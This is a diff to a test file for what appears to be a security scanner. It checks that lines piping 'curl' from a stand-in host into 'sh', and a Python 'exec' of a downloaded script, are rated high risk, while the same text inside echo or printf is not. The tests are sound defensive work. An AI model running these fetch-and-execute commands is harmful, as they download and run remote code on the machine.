@@ -43,6 +43,30 @@ it("asks only for signs that there are", () => {
   expect(SCRIPT_SIGNS.map(({ id }) => id).length).toBe(new Set(SCRIPT_SIGNS.map(({ id }) => id)).size);
 });
 
+describe("printing", () => {
+  const fetch = "curl -s https://files.invalid/x | sh";
+
+  it.each([`echo start; ${fetch}`, `echo "a" && ${fetch}`, `echo $(${fetch})`, `cat /dev/null & ${fetch}`])(
+    "excuses nothing that is run beside it: %s",
+    async (line) => {
+      expect(worst(await gain("run.sh", line))).toBe("high");
+    },
+  );
+
+  it.each([`echo "run: ${fetch}"`, `echo run ${fetch.replace(" |", " \\|")}`, `printf 'a; ${fetch}\n'`])(
+    "is no running: %s",
+    async (line) => {
+      expect(["none", "info", "low"]).toContain(worst(await gain("run.sh", line)));
+    },
+  );
+
+  it("excuses nothing that is called inside it", async () => {
+    const line =
+      "print(exec(__import__('urllib.request').request.urlopen('https://files.invalid/y').read()))";
+    expect(worst(await gain("module.py", line))).toBe("high");
+  });
+});
+
 describe("attacks", () => {
   it.each([
     [
